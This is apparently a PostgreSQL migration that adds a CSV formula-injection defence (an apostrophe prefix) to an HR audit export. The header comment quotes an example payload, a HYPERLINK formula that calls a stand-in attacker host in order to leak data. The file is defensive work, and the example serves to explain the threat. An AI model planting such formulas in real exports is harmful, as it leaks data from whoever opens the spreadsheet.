-- CSV formula neutralisation (OWASP "CSV injection"). A spreadsheet evaluates a
-- cell starting with =, +, -, @, tab or carriage return, so a manager's
-- briefing titled =HYPERLINK("http://evil.example/?leak", ...) ran in HR's
-- audit export. Every text cell an export writes goes through
-- private.csv_cell: such a cell gets one leading apostrophe, and so does a
-- cell that already starts with one, so a reader recovers the exact text by
-- stripping one leading apostrophe. src/domain/csv-cell.ts is the same rule in
-- TypeScript (encodeCsvCell / decodeCsvCell); a test keeps them equal.
-- audit_export is the only CSV the app produces.

-- No SET clause (it only uses pg_catalog, always searched first), so the
-- planner inlines it into the streaming export instead of calling it per cell.
create function private.csv_cell(p_text text) returns text
language sql immutable parallel safe as $$
  select case when left(p_text, 1) in ('=', '+', '-', '@', E'\t', E'\r', '''') then '''' || p_text else p_text end
$$;
comment on function private.csv_cell(text) is 'A text cell made inert for spreadsheets: prefixes one apostrophe when it starts with =, +, -, @, tab, carriage return or an apostrophe; strip one leading apostrophe to read it back. Null stays null.';

create or replace function public.audit_export(p_from timestamptz default null, p_to timestamptz default null)
returns table (person text, employee_email text, store text, briefing text, version int, content_hash text,
               acked_on_device_at timestamptz, received_by_server_at timestamptz, clock_flag text)
-- Inlined into the caller's query: no security definer and no SET clause (see 20261122101500_create_audit_export.sql).
language sql stable as $$
  select private.csv_cell(t.person), private.csv_cell(t.employee_email), private.csv_cell(t.store),
         private.csv_cell(t.briefing), t.version, t.content_hash,
         t.acked_on_device_at, t.received_by_server_at, t.clock_flag
  from private.audit_trail t
  where t.received_at >= coalesce(p_from, '-infinity') and t.received_at < coalesce(p_to, 'infinity')
  order by t.received_at, t.id
$$;
comment on function public.audit_export(timestamptz, timestamptz) is 'HR: every acknowledgement of the organisation received in [p_from, p_to) (open ends when null), oldest first; the store is the member''s current one; clock_flag says how far to trust acked_on_device_at (null, device_ahead, before_version); text cells are formula-neutralised by private.csv_cell. Call with Accept: text/csv to stream.';
